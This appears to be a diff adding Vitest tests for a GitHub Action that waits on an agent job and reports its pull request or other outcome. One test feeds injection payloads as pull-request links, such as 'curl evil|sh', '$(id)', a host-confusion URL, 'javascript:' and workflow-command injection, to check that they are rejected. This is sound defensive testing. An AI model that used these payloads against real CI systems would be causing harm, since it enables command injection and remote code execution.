@@ -1,0 +1,182 @@
+import { afterEach, expect, test } from 'vitest';
+import { type RunOptions, runAction } from '../world/runner.ts';
+import { inTurn, type Reply, type StandInService, startService } from '../world/service.ts';
+
+const key = 'mint_test_key_0123456789';
+const link = 'https://github.com/acme/docs/pull/12';
+const active = {
+  json: {
+    id: 'job-1',
+    status: 'active',
+    source: { repository: 'https://github.com/acme/docs', ref: 'docs/webhooks' },
+    model: 'sonnet',
+    prLink: null,
+  },
+};
+const ended = (status: string, prLink: string | null = null): Reply => ({
+  json: { ...active.json, status, prLink },
+});
+
+let service: StandInService;
+afterEach(() => service.close());
+
+async function runJob(replies: Reply[], options: Partial<RunOptions> = {}) {
+  service = await startService({ job: inTurn(...replies) });
+  return runAction({
+    ...options,
+    with: {
+      mode: 'job',
+      'api-key': key,
+      'project-id': 'acme-docs',
+      'job-id': 'job-1',
+      'base-url': service.url,
+      'poll-interval-seconds': '0.05',
+      ...options.with,
+    },
+  });
+}
+
+test('hands on the pull request of a job that completed', async () => {
+  const run = await runJob([active, active, ended('completed', link)]);
+  expect(run).toMatchObject({ exitCode: 0, errors: [], warnings: [], stderr: '' });
+  expect(run.outputs).toEqual({
+    outcome: 'pull-request',
+    status: 'completed',
+    prLink: link,
+    prNumber: '12',
+    job: JSON.stringify({ ...active.json, status: 'completed', prLink: link }),
+    commentUrl: '',
+  });
+  expect(run.summary).toMatch(
+    /^### ✅ The agent opened a pull request\n\n- Pull request: \[#\u200b12\]\(https:\/\/github\.com\/acme\/docs\/pull\/12\)\n- Repository: `https:\/\/github\.com\/acme\/docs`\n- Branch: `docs\/webhooks`\n- Model: `sonnet`\n- Duration: 0\.\d s since the wait began\n- Job: `job-1`, waited for by this \[workflow run\]\(https:\/\/github\.com\/acme\/docs\/actions\/runs\/4242\/attempts\/1\)\n$/,
+  );
+  expect(run.stdout.split('\n').map((line) => line.replace(/\d+\.\d s/, 'N s'))).toEqual([
+    `::add-mask::${key}`,
+    '::add-mask::ghs_standInToken0123456789',
+    'Waiting for agent job job-1, for at most 30 min.',
+    'Job is active.',
+    'Job is completed after N s.',
+    `The agent opened a pull request. Pull request: ${link}. Job job-1, N s since the wait began.`,
+    '',
+  ]);
+  expect(service.requests).toHaveLength(3);
+});
+
+test.each([
+  ['completed', 'no-changes', 0, /finished without changing a file/],
+  ['archived', 'archived', 0, /was archived/],
+  ['failed', 'failed', 1, /met an error that it could not recover from/],
+])('a job that is %s comes to %s', async (status, outcome, exitCode, words) => {
+  const run = await runJob([ended(status)]);
+  expect(run).toMatchObject({ exitCode, outputs: { outcome, status, prLink: '', prNumber: '' } });
+  expect(run.summary).toMatch(words);
+  expect(run.errors).toHaveLength(exitCode);
+  if (exitCode > 0) expect(run.errors[0]).toMatch(words);
+});
+
+test('fail-on decides which outcomes fail the step', async () => {
+  const passed = await runJob([ended('failed')], { with: { 'fail-on': 'none' } });
+  expect(passed).toMatchObject({ exitCode: 0, errors: [], outputs: { outcome: 'failed' } });
+  await service.close();
+  const failed = await runJob([ended('completed')], { with: { 'fail-on': 'no-changes' } });
+  expect(failed).toMatchObject({ exitCode: 1, outputs: { outcome: 'no-changes' } });
+});
+
+test('a job that outlasts the step is timed out, and the message says how to wait on', async () => {
+  const run = await runJob([active], { with: { 'timeout-minutes': '0.01' } });
+  expect(run).toMatchObject({ exitCode: 1, outputs: { outcome: 'timed-out', status: 'active' } });
+  expect(run.errors).toEqual([
+    expect.stringMatching(
+      /^The agent job had not ended when the time of this step was up\. Job job-1, .* It may still be running\. To wait on, run the same step again\./,
+    ),
+  ]);
+});
+
+test('a service that fails after a first answer is timed out too', async () => {
+  const run = await runJob([active, { status: 500 }], { with: { 'timeout-minutes': '0.01' } });
+  expect(run).toMatchObject({ exitCode: 1, outputs: { outcome: 'timed-out', status: 'active' } });
+});
+
+test('a job that was never read is an error whatever fail-on says', async () => {
+  const run = await runJob([{ status: 503 }], {
+    with: { 'timeout-minutes': '0.01', 'fail-on': 'none' },
+  });
+  expect(run).toMatchObject({ exitCode: 1, outputs: { outcome: '', status: '' } });
+  expect(run.errors[0]).toMatch(/^No answer for agent job job-1 of project acme-docs: /);
+});
+
+test('an unknown status is waited through, and named where it is a plain word', async () => {
+  const run = await runJob([ended('queued'), ended('queued'), ended('completed')]);
+  expect(run).toMatchObject({ exitCode: 0, outputs: { outcome: 'no-changes' } });
+  expect(run.warnings).toEqual([
+    'The job has the status "queued" that this action does not know. It goes on waiting for a known end.',
+  ]);
+  await service.close();
+  const hostile = await runJob([ended('::error::x\n##[error]'), ended('completed')]);
+  expect(hostile.warnings).toEqual([
+    'The job has a status that this action does not know. It goes on waiting for a known end.',
+  ]);
+});
+
+test.each([
+  'https://github.com/o/r/pull/1"; curl evil|sh #',
+  'https://github.com/o/r/pull/1$(id)`id`',
+  'https://github.com@evil.example/o/r/pull/1',
+  'javascript:alert(1)//github.com/o/r/pull/1',
+  'https://github.com/o/r/pull/1\n::error::x',
+  'http://github.com/o/r/pull/1',
+])('the link %j never reaches an output', async (prLink) => {
+  const run = await runJob([ended('completed', prLink)]);
+  expect(run.outputs).toMatchObject({ outcome: 'pull-request', prLink: '', prNumber: '' });
+  expect(JSON.parse(run.outputs.job ?? '')).toMatchObject({ status: 'completed', prLink: null });
+  expect(run.warnings[0]).toMatch(/not a plain https URL/);
+  expect(run.errors).toEqual([]);
+  expect(run.summary).not.toContain('evil');
+});
+
+test('fields nested beyond reason, or longer, cost themselves alone', async () => {
+  const nested = `${'['.repeat(100_000)}${']'.repeat(100_000)}`;
+  const ref = 'b'.repeat(70_000);
+  const run = await runJob([
+    { body: `{"status":"completed","source":{"ref":"${ref}"},"odd":${nested}}` },
+  ]);
+  expect(run).toMatchObject({ exitCode: 0, errors: [], outputs: { outcome: 'no-changes' } });
+  expect(JSON.parse(run.outputs.job ?? '')).toEqual({
+    status: 'completed',
+    source: { ref },
+    prLink: null,
+  });
+  expect(run.summary).toContain(`- Branch: \`${'b'.repeat(199)}…\`\n`);
+});
+
+test.each<'SIGINT' | 'SIGTERM'>(['SIGINT', 'SIGTERM'])('%s ends the wait at once', async (name) => {
+  let sent = 0;
+  const run = await runJob([active], {
+    with: { 'poll-interval-seconds': '30' },
+    onOutput: (stdout, child) => {
+      if (sent > 0 || !stdout.includes('Job is active')) return;
+      sent = performance.now();
+      child.kill(name);
+    },
+  });
+  expect(performance.now() - sent).toBeLessThan(2_000);
+  expect(run).toMatchObject({ exitCode: 1, outputs: { outcome: 'cancelled', status: 'active' } });
+  expect(run.errors).toEqual([`The step was cancelled (${name}).`]);
+  expect(run.summary).toMatch(/^### 🚫 The wait for the agent job was cancelled\n/);
+});
+
+test('a stalled connection does not keep a cancelled step', async () => {
+  const run = await runJob([{ fault: 'stall' }], {
+    onOutput: (stdout, child) => {
+      if (stdout.includes('Waiting for')) setTimeout(() => child.kill('SIGTERM'), 100);
+    },
+  });
+  expect(run).toMatchObject({ exitCode: 1, outputs: { outcome: 'cancelled', status: '' } });
+  expect(run.seconds).toBeLessThan(2);
+});
+
+test('a cut-off body is not the silent end of the step', async () => {
+  const run = await runJob([{ fault: 'cut-off', json: active.json }, ended('completed')]);
+  expect(run).toMatchObject({ exitCode: 0, outputs: { outcome: 'no-changes' } });
+  expect(service.requests).toHaveLength(2);
+});
